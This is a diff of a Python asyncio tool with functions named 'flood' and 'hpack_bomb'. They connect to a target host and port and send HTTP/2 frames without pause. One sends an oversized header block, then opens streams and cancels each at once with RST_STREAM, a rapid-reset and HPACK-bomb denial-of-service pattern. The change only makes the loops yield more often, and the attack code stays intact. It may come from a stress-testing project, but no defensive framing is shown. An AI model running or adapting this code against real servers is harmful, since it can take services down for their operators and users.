@@ -150,10 +150,9 @@ async def flood(
 
     async def work(connection: Connection) -> None:
         while not connection.exhausted:
-            for _ in range(10):
-                await connection.send(*(part for _ in range(BATCH) for part in make(connection)))
-                done["rounds"] += BATCH
-            await asyncio.sleep(0)  # so that it can be cancelled
+            await connection.send(*(part for _ in range(BATCH) for part in make(connection)))
+            done["rounds"] += BATCH
+            await asyncio.sleep(0)  # so that it can be cancelled, and others get their turn
 
     await again_and_again(work, host, port, done, **options)
 
@@ -219,14 +218,13 @@ async def hpack_bomb(host: str, port: int, done: Done, **options: str | None) ->
         first = connection.stream()
         await connection.send(frame(HEADERS, END_HEADERS | END_STREAM, first, request_block() + large))
         while not connection.exhausted:
-            for _ in range(10):
-                parts = []
-                for _ in range(BATCH):
-                    stream = connection.stream()
-                    parts.append(frame(HEADERS, END_HEADERS, stream, block))
-                    parts.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4)))
-                await connection.send(*parts)
-                done["rounds"] += BATCH
+            parts = []
+            for _ in range(BATCH):
+                stream = connection.stream()
+                parts.append(frame(HEADERS, END_HEADERS, stream, block))
+                parts.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4)))
+            await connection.send(*parts)
+            done["rounds"] += BATCH
             await asyncio.sleep(0)
 
     await again_and_again(work, host, port, done, **options)
